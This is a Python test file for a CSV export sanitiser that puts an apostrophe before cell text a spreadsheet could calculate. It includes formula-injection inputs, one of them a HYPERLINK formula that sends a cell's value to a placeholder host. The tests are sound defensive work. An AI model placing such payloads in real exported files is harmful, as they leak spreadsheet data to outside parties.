"""Text in a CSV file that a spreadsheet must not take for a formula."""

import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ops.audit.export_formats import spreadsheet_safe

# What an attacker puts together: what begins a formula, what hides that, what ends a cell, and some of the rest.
TRICKY = st.text(
    st.sampled_from("=+-@\uff1d\uff0d\uff0b\uff20\u2212'\";,|\t\r\n \x00\x1f\x7f\xa0\u200b\u202e\ufeffaZ9(!é")
    | st.characters()
)


def exact(cell: str) -> str:
    """What `audit export --help` says: an apostrophe taken away at the start, and after each ; tab and line break."""
    return re.sub(r"(\A|(?<=[;\t\r\n]))'", "", cell)


def begins_a_formula(text: str) -> bool:
    """Whether a spreadsheet that drops what is not seen, and reads all widths, would calculate."""
    seen = unicodedata.normalize("NFKC", text).lstrip(' \t\r\n\x00"\xa0\u200b\u202e\ufeff')
    return seen.startswith(("=", "+", "-", "@", "\u2212"))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x/?"&A1)',
        "+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\x00=1",
        "  =1",
        "\xa0=1",
        '"=1',
        "\ufeff=1",
        "\u200b\u202e=1",
        "\uff1d1",
        "\uff0b1",
        "\uff0d1",
        "\uff20A",
        "\u22121",
    ],
)
def test_what_a_spreadsheet_could_calculate_gets_an_apostrophe_in_front(text: str) -> None:
    assert spreadsheet_safe(text) == f"'{text}" or text[0] in "\t\r\n"
    assert spreadsheet_safe(text)[0] == "'"


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("a;=1;b", "a;'=1;b"),
        ("a\n=1\nb", "a\n'=1\nb"),
        ("a\r\n@x", "a\r'\n'@x"),
        ("a\t +1", "a\t' +1"),
        ("\t=1", "'\t'=1"),
    ],
)
def test_so_does_what_it_could_see_a_cell_begin_with_where_it_guesses_the_separator_wrong(text: str, safe: str) -> None:
    assert spreadsheet_safe(text) == safe


@pytest.mark.parametrize(
    "text",
    ["", "reports/a.csv", "a=b", "a-b+c@d", "a,=1", "a;b", "ünïcode/ключ", "0a1b", "2026-11-23T10:00:00.250Z", "yNx=="],
)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert spreadsheet_safe(text) == text


@pytest.mark.parametrize("text", ["'", "'=1", "''a", "a;'b", "it's"])
def test_an_apostrophe_of_the_texts_own_can_be_told_from_ours(text: str) -> None:
    assert exact(spreadsheet_safe(text)) == text


@given(TRICKY)
def test_the_exact_text_can_always_be_had_back(text: str) -> None:
    assert exact(spreadsheet_safe(text)) == text


@given(TRICKY)
def test_nowhere_can_a_spreadsheet_see_a_formula_begin(text: str) -> None:
    safe = spreadsheet_safe(text)
    starts = [0, *(found.end() for found in re.finditer(r"[;\t\r\n]", safe))]
    assert not any(begins_a_formula(re.split(r"[;\t\r\n]", safe[start:])[0]) for start in starts)
